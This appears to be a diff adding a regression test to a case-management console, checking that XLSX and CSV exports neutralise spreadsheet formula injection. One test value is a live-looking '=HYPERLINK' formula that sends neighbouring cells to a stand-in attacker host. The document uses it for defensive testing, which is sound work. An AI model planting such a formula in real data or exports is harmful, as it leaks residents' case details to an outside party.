@@ -57,3 +57,19 @@ async def test_an_unknown_column_or_filter_is_a_clear_400(client, ctx):
     r = await client.get("/console/cases.xlsx?cols=number,password")
     assert r.status == 400 and "password" in await r.text()
     assert (await client.get("/console/cases.csv?status=nonsense")).status == 400
+
+
+async def test_a_residents_formula_stays_text_in_both_exports(client, ctx):
+    """An outside trial reported "=HYPERLINK(…&B3&C3, …)" as a resident: the centre's XLSX held it
+    as a live formula, carrying the next rows away when clicked; the CSV had it as it came."""
+    formula = '=HYPERLINK("http://attacker.example/?"&B3&C3,"楼上邻居天天半夜吵")'
+    number = await open_case(ctx, "f1", "DX01", "neighbour", text=formula)
+    await open_case(ctx, "f2", "DX01", "neighbour", text="+1 楼上漏水")
+    await login(client, "centre-qs")
+    r = await client.get("/console/cases.xlsx?cols=number,summary&sort=created&dir=asc")
+    book = openpyxl.load_workbook(io.BytesIO(await r.read()))
+    cells = [row[1] for row in book["电子台账"].iter_rows(min_row=2)]
+    assert [c.data_type for c in cells] == ["s", "s"] and cells[0].value.startswith("=HYPERLINK"), cells
+    r = await client.get("/console/cases.csv?cols=number,summary&sort=created&dir=asc")
+    rows = list(csv.reader(io.StringIO((await r.read()).decode("utf-8-sig"))))
+    assert rows[1][0] == number and rows[1][1].startswith("'=HYPERLINK") and rows[2][1].startswith("'+1"), rows
